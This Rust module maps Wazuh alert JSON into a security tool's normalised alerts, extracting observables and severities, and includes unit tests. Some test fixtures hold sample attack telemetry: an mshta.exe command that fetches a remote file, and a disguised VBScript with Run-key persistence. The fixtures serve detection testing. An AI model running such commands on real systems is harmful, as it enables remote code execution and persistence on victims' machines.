//! Wazuh alerts: the JSON lines of the manager's `alerts.json`.

use firebreak_types::Severity;
use serde_json::{Map, Value};

use super::fields::{Native, Observables, attack_tag, first, get, keep, required, text, texts, timestamp};
use super::{MapError, Mapped};
use crate::observable::ObservableKind as K;

/// Wazuh rule levels (0–15) as severities:
///
/// | `rule.level` | severity |
/// |--------------|----------|
/// | 0–6          | low      |
/// | 7–10         | medium   |
/// | 11–13        | high     |
/// | 14–15        | critical |
///
/// Anything else is an error naming `rule.level`.
fn severity(event: &Value) -> Result<Severity, MapError> {
    let level = match get(event, "rule.level") {
        Some(Value::Number(n)) => n.as_i64(),
        Some(Value::String(s)) => s.trim().parse().ok(),
        None | Some(Value::Null) => {
            return Err(MapError::new("rule.level", "rule.level is missing: a Wazuh alert needs it for its severity"));
        }
        Some(_) => None,
    };
    match level {
        Some(0..=6) => Ok(Severity::Low),
        Some(7..=10) => Ok(Severity::Medium),
        Some(11..=13) => Ok(Severity::High),
        Some(14..=15) => Ok(Severity::Critical),
        _ => {
            let got = get(event, "rule.level").map(Value::to_string).unwrap_or_default();
            Err(MapError::new("rule.level", format!("rule.level must be a whole number from 0 to 15 (got {got})")))
        }
    }
}

/// Sysmon's hash lists (`SHA1=…,MD5=…,SHA256=…,IMPHASH=…`). The import hash
/// is not the file's hash, so it is left out.
fn sysmon_hashes(list: &str, obs: &mut Observables) {
    for part in list.split(',') {
        if let Some((algorithm, hash)) = part.split_once('=')
            && matches!(algorithm.trim().to_ascii_uppercase().as_str(), "MD5" | "SHA1" | "SHA256")
        {
            obs.add_hash(Some(hash.to_owned()));
        }
    }
}

/// `DOMAIN\user` when the event names the domain apart.
fn account(event: &Value, user: &str, domain: &str) -> Option<String> {
    let u = text(event, user)?;
    Some(match text(event, domain) {
        Some(d) if !u.contains('\\') => format!("{d}\\{u}"),
        _ => u,
    })
}

/// An `eventdata` value as Windows wrote it. The eventchannel decoder
/// escapes the event's values once more than JSON needs (`C:\\Windows`,
/// `\"C:\\…\"`), so every backslash comes in a pair or before a quote;
/// such a value is unescaped. A value with a lone backslash was written as
/// it is (`\\server\share`, an older agent) and is kept.
fn eventdata_value(value: String) -> String {
    let b = value.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' {
            if !matches!(b.get(i + 1), Some(b'\\' | b'"')) {
                return value;
            }
            i += 1;
        }
        i += 1;
    }
    let mut out = String::with_capacity(value.len());
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        out.push(if c == '\\' { chars.next().unwrap_or(c) } else { c });
    }
    out
}

/// A process image: the process (by its name) and the file on disk.
fn image(path: Option<String>, obs: &mut Observables) {
    if let Some(path) = path {
        obs.add(K::Process, path.rsplit('\\').next().map(str::to_owned));
        obs.add(K::FilePath, Some(path));
    }
}

/// What Windows events (through the eventchannel decoder) name, each field
/// read as what its name says it holds; the command lines are free text.
fn windows(event: &Value, obs: &mut Observables) {
    let data = |field: &str| text(event, &format!("data.win.eventdata.{field}")).map(eventdata_value);
    obs.add_host(text(event, "data.win.system.computer"));
    obs.add(K::UserAccount, account(event, "data.win.eventdata.targetUserName", "data.win.eventdata.targetDomainName"));
    obs.add(
        K::UserAccount,
        account(event, "data.win.eventdata.subjectUserName", "data.win.eventdata.subjectDomainName"),
    );
    obs.add(K::UserAccount, data("user"));
    for field in ["ipAddress", "sourceIp", "destinationIp"] {
        obs.add(K::Ip, data(field));
    }
    obs.add_host(data("workstationName"));
    obs.add_host(data("sourceHostname"));
    obs.add_host(data("destinationHostname"));
    obs.add(K::Domain, data("queryName"));
    image(data("image"), obs);
    image(data("parentImage"), obs);
    obs.add(K::FilePath, data("targetFilename"));
    obs.add(K::FilePath, data("imageLoaded"));
    obs.add(K::RegistryKey, data("targetObject"));
    if let Some(h) = data("hashes") {
        sysmon_hashes(&h, obs);
    }
    obs.add_text(data("commandLine"));
    obs.add_text(data("parentCommandLine"));
}

/// A registry entry that file integrity monitoring reports: the key, with
/// the value's name when a value changed. Its hashes are of the value's
/// data, not of a file, so they are not observables.
fn syscheck_registry(event: &Value) -> Option<String> {
    let path = text(event, "syscheck.path")?;
    let registry = path.to_ascii_uppercase().starts_with("HKEY_")
        || text(event, "decoder.name").is_some_and(|d| d.starts_with("syscheck_registry"))
        || text(event, "syscheck.value_type").is_some();
    if !registry {
        return None;
    }
    Some(match text(event, "syscheck.value_name") {
        Some(name) => format!("{}\\{name}", path.trim_end_matches('\\')),
        None => path,
    })
}

/// The addresses a `netstat listening ports` command reports, each line
/// `proto local-address:port foreign-address:port pid/program`: the port is
/// cut at the last colon (`::1:631` is the loopback address, port 631).
fn netstat(log: &str, obs: &mut Observables) {
    for line in log.lines().skip(1) {
        let mut words = line.split_whitespace();
        let (Some(_proto), Some(local)) = (words.next(), words.next()) else { continue };
        if let Some((address, port)) = local.rsplit_once(':')
            && port.bytes().all(|b| b.is_ascii_digit())
        {
            // `fd17:625c:f037:2::57678`: the port took the second colon of `::`.
            let address = match address.strip_suffix(':') {
                Some(a) if !a.ends_with(':') => format!("{address}:"),
                _ => address.to_owned(),
            };
            obs.add(K::Ip, Some(address));
        }
    }
}

/// A user as PAM decoders write it (`root(uid=0)`): the name alone.
fn user_name(value: Option<String>) -> Option<String> {
    value.map(|v| match v.split_once('(') {
        Some((name, rest)) if rest.ends_with(')') && !name.trim().is_empty() => name.trim().to_owned(),
        _ => v,
    })
}

/// The observables of an alert: the fields Wazuh's decoders name, each read
/// as what it is, and the log line as free text when it is one (not the
/// JSON of an event whose fields are decoded, and not a netstat listing).
pub(super) fn observables(event: &Value) -> Observables {
    let mut obs = Observables::default();
    obs.add_host(text(event, "agent.name"));
    obs.add(K::Ip, text(event, "agent.ip"));
    for field in ["data.srcip", "data.dstip", "data.src_ip", "data.dest_ip"] {
        obs.add(K::Ip, text(event, field));
    }
    obs.add(K::UserAccount, user_name(text(event, "data.srcuser")));
    obs.add(K::UserAccount, user_name(text(event, "data.dstuser")));
    // Web access logs decode `url` as the path alone; only a whole URL is one.
    obs.add(K::Url, text(event, "data.url"));
    windows(event, &mut obs);
    match syscheck_registry(event) {
        Some(key) => obs.add(K::RegistryKey, Some(key)),
        None => {
            obs.add(K::FilePath, text(event, "syscheck.path"));
            for h in ["syscheck.md5_after", "syscheck.sha1_after", "syscheck.sha256_after"] {
                obs.add_hash(text(event, h));
            }
        }
    }
    // The auditd decoder names the program that ran and the file it touched;
    // rootcheck, the file it found.
    for field in ["data.audit.exe", "data.audit.file.name", "data.file"] {
        obs.add(K::FilePath, text(event, field).filter(|p| p.starts_with('/') || p.contains(":\\")));
    }
    // The VirusTotal integration names the file it looked up.
    obs.add(K::FilePath, text(event, "data.virustotal.source.file"));
    for h in ["data.virustotal.source.md5", "data.virustotal.source.sha1"] {
        obs.add_hash(text(event, h));
    }
    let log = text(event, "full_log");
    if text(event, "location").as_deref() == Some("netstat listening ports") {
        if let Some(log) = &log {
            netstat(log, &mut obs);
        }
    } else if get(event, "data.win").is_none() && get(event, "syscheck").is_none() {
        // A rootcheck line ends with the signature it matched: patterns of
        // strings (`'/dev/ttyo|.1proc|proc.h'`), not names of anything.
        let log = log.map(|l| l.split(" Signature used:").next().unwrap_or_default().to_owned());
        obs.add_text(log.filter(|l| !l.trim_start().starts_with('{')));
    }
    obs
}

/// The alert's reference: the manager, the agent, the rule and the alert
/// `id`, as `manager:agent:rule:id`. Wazuh's `id` is the second the alert
/// was written and its offset in that manager's `alerts.json`, so it is
/// unique on one manager only: the managers of a cluster, and Wazuh's own
/// sample alerts, reuse it for alerts of other agents and rules. A part
/// the alert lacks is `-`; the same alert sent again has the same reference.
fn source_ref(event: &Value, id: &str) -> String {
    let part = |paths: &[&str]| first(event, paths).unwrap_or_else(|| "-".to_owned());
    format!("{}:{}:{}:{id}", part(&["manager.name", "cluster.node"]), part(&["agent.id"]), part(&["rule.id"]))
}

/// Text the eventchannel decoder kept in the quotes it came in, without them.
fn unquoted(text: String) -> String {
    text.strip_prefix('"').and_then(|t| t.strip_suffix('"')).map(str::to_owned).unwrap_or(text)
}

/// What happened, in words. A Windows event (the eventchannel decoder's
/// `data.win`) is its rendered message, or, when the agent sent none, a line
/// naming the channel, the event id, the provider and the computer: its
/// `full_log` is the event again as JSON, no reading for an analyst. Other
/// alerts carry the log line that raised them in `full_log`.
fn description(event: &Value) -> String {
    if get(event, "data.win.system").is_some_and(Value::is_object) {
        if let Some(message) = text(event, "data.win.system.message").map(unquoted).filter(|m| !m.trim().is_empty()) {
            return message;
        }
        return windows_summary(event);
    }
    text(event, "full_log").map(unquoted).unwrap_or_default()
}

/// `Security event 4625 from Microsoft-Windows-Security-Auditing on client1`,
/// with the parts the event has.
fn windows_summary(event: &Value) -> String {
    let system = |field: &str| text(event, &format!("data.win.system.{field}"));
    let mut line = match system("channel") {
        Some(channel) => format!("{channel} event"),
        None => "Windows event".to_owned(),
    };
    if let Some(id) = system("eventID") {
        line.push(' ');
        line.push_str(&id);
    }
    if let Some(provider) = system("providerName") {
        line.push_str(" from ");
        line.push_str(&provider);
    }
    if let Some(computer) = system("computer") {
        line.push_str(" on ");
        line.push_str(&computer);
    }
    line
}

pub fn map(event: Value) -> Result<Mapped, MapError> {
    let id = required(&event, "id", "a Wazuh alert needs its id as its reference")?;
    let source_ref = source_ref(&event, &id);
    let title = required(&event, "rule.description", "a Wazuh alert needs it as its title")?;
    let severity = severity(&event)?;
    let event_time = text(&event, "timestamp").map(|t| timestamp(&t, "timestamp")).transpose()?;
    let mut tags = texts(&event, "rule.groups");
    tags.extend(texts(&event, "rule.mitre.id").iter().filter_map(|id| attack_tag(id)));
    let mut custom = Map::new();
    keep(
        &event,
        &mut custom,
        &[
            "agent.id",
            "manager.name",
            "location",
            "decoder.name",
            "rule.firedtimes",
            "data.srcport",
            "data.dstport",
            "data.win.system.eventID",
            "data.win.eventdata.commandLine",
            "syscheck.event",
        ],
    );
    let native = Native {
        source: "wazuh".into(),
        source_ref,
        kind: text(&event, "decoder.name")
            .or_else(|| texts(&event, "rule.groups").into_iter().next())
            .unwrap_or_else(|| "wazuh".into()),
        rule: text(&event, "rule.id"),
        title,
        description: description(&event),
        severity,
        event_time,
        tags,
        observables: observables(&event),
        custom_fields: custom,
    };
    Ok(Mapped::Alert(native.into_json(event)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn the_level_table() {
        let sev = |level: Value| severity(&json!({ "rule": { "level": level } })).map(|s| format!("{s:?}"));
        for (level, want) in [(0, "Low"), (6, "Low"), (7, "Medium"), (10, "Medium"), (11, "High"), (13, "High")] {
            assert_eq!(sev(json!(level)).unwrap(), want, "{level}");
        }
        assert_eq!(sev(json!(14)).unwrap(), "Critical");
        assert_eq!(sev(json!("15")).unwrap(), "Critical");
        for bad in [json!(16), json!(-1), json!(7.5), json!("high"), json!(true)] {
            let e = sev(bad.clone()).unwrap_err();
            assert_eq!(e.field, "rule.level");
            assert!(e.reason.contains("0 to 15"), "{bad}: {}", e.reason);
        }
        assert!(severity(&json!({})).unwrap_err().reason.contains("missing"));
    }

    #[test]
    fn sysmon_hashes_without_the_import_hash() {
        let mut obs = Observables::default();
        sysmon_hashes(
            "SHA1=8F3C2E1D0B9A7C6E5D4F3A2B1C0D9E8F7A6B5C4D,IMPHASH=1F2E3D4C5B6A79880716253443526170",
            &mut obs,
        );
        assert_eq!(obs.pairs(), [("sha1", "8f3c2e1d0b9a7c6e5d4f3a2b1c0d9e8f7a6b5c4d")]);
    }

    fn pairs(event: Value) -> Vec<(&'static str, String)> {
        observables(&event).into_pairs().into_iter().map(|(k, v)| (k.as_str(), v)).collect()
    }

    #[test]
    fn a_registry_entry_is_a_key_and_its_hashes_are_not_files() {
        let got = pairs(json!({ "syscheck": {
            "path": "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits",
            "value_name": "SecureTimeLow", "value_type": "REG_QWORD", "arch": "[x32]",
            "md5_after": "2d1e51dbeb52faa7dc98f91ef96de4fb",
            "sha256_after": "e377f3d5fc7e41ad08ed5bda001c108a8085b7d322fdb6708e86e637aee509e7" },
            "decoder": { "name": "syscheck_registry_value_modified" },
            "full_log": "Registry Value '[x32] HKEY_LOCAL_MACHINE\\System\\…' modified\nOld md5sum was: '8d8ca2699b142866db9aec3a34e21cf0'" }));
        assert_eq!(
            got,
            [(
                "registry_key",
                "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits\\SecureTimeLow"
                    .into()
            )]
        );
        let file =
            pairs(json!({ "syscheck": { "path": "/etc/passwd", "md5_after": "2d1e51dbeb52faa7dc98f91ef96de4fb" } }));
        assert_eq!(file, [("file_path", "/etc/passwd".into()), ("md5", "2d1e51dbeb52faa7dc98f91ef96de4fb".into())]);
    }

    #[test]
    fn netstat_ports_are_cut_from_their_addresses() {
        let got = pairs(json!({ "location": "netstat listening ports",
            "full_log": "ossec: output: 'netstat listening ports':\ntcp6 ::1:631 :::* 1/cupsd\ntcp 0.0.0.0:22 0.0.0.0:* 2/sshd\ntcp 10.0.2.15:57678 0.0.0.0:* 3/x\ntcp6 fd17:625c:f037:2::57678 :::* 3/x" }));
        assert_eq!(got, [("ip", "10.0.2.15".into()), ("ip", "fd17:625c:f037:2::".into())]);
    }

    #[test]
    fn a_json_log_is_read_by_its_decoded_fields_not_as_text() {
        let got = pairs(json!({ "full_log": "{\"version\":\"7.5.4.0\",\"p2\":\"1.3.233.3\",\"src\":\"203.0.113.9\"}",
            "data": { "srcip": "198.51.100.4" } }));
        assert_eq!(got, [("ip", "198.51.100.4".into())]);
        let line = pairs(
            json!({ "full_log": "sshd[1]: Invalid user paco from 172.17.1.1 port 56404", "data": { "srcuser": "paco" } }),
        );
        assert_eq!(line, [("user_account", "paco".into()), ("ip", "172.17.1.1".into())]);
    }

    #[test]
    fn eventchannel_fields_and_the_command_line() {
        let got = pairs(json!({ "data": { "win": {
            "system": { "computer": "WIN-DC-01" },
            "eventdata": { "image": "C:\\Windows\\System32\\mshta.exe",
                "commandLine": "\"C:\\WINDOWS\\System32\\mshta.exe\" https://hotelesms.com/talsk.txt",
                "virtualAccount": "%%1843", "user": "CORP\\Alice", "targetUserName": "alice", "targetDomainName": "corp" } } } }));
        assert_eq!(
            got,
            [
                ("hostname", "win-dc-01".into()),
                // `CORP\\Alice` is the same account, spelled otherwise.
                ("user_account", "corp\\alice".into()),
                ("process", "mshta.exe".into()),
                ("file_path", "C:\\Windows\\System32\\mshta.exe".into()),
                ("url", "https://hotelesms.com/talsk.txt".into()),
            ]
        );
    }

    #[test]
    fn eventdata_escaped_once_more_is_read_as_windows_wrote_it() {
        // As the eventchannel decoder writes a Sysmon process creation.
        let got = pairs(json!({ "data": { "win": {
            "system": { "computer": "hrmanager.ExchangeTest.com" },
            "eventdata": { "image": "C:\\\\Windows\\\\System32\\\\reg.exe",
                "parentImage": "C:\\\\Windows\\\\System32\\\\cmd.exe",
                "user": "EXCHANGETEST\\\\Administrator",
                "targetObject": "HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\tvncontrol",
                "parentCommandLine": "\\\"C:\\\\Windows\\\\System32\\\\WScript.exe\\\" \\\"C:\\\\Users\\\\Public\\\\Java-Update.vbs\\\"" } } } }));
        assert_eq!(
            got,
            [
                ("hostname", "hrmanager.exchangetest.com".into()),
                ("user_account", "EXCHANGETEST\\Administrator".into()),
                ("process", "reg.exe".into()),
                ("file_path", "C:\\Windows\\System32\\reg.exe".into()),
                ("process", "cmd.exe".into()),
                ("file_path", "C:\\Windows\\System32\\cmd.exe".into()),
                (
                    "registry_key",
                    "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\tvncontrol".into()
                ),
                ("file_path", "C:\\Windows\\System32\\WScript.exe".into()),
                ("file_path", "C:\\Users\\Public\\Java-Update.vbs".into()),
            ]
        );
        // A value with a lone backslash was not escaped again, and stays.
        assert_eq!(eventdata_value("\\\\server\\share".into()), "\\\\server\\share");
        assert_eq!(eventdata_value("C:\\\\a\\\\b".into()), "C:\\a\\b");
    }

    #[test]
    fn domain_and_user_join_once() {
        let e = json!({ "u": "CORP\\a", "v": "b", "d": "CORP" });
        assert_eq!(account(&e, "u", "d").as_deref(), Some("CORP\\a"));
        assert_eq!(account(&e, "v", "d").as_deref(), Some("CORP\\b"));
        assert_eq!(account(&e, "v", "none").as_deref(), Some("b"));
    }
}
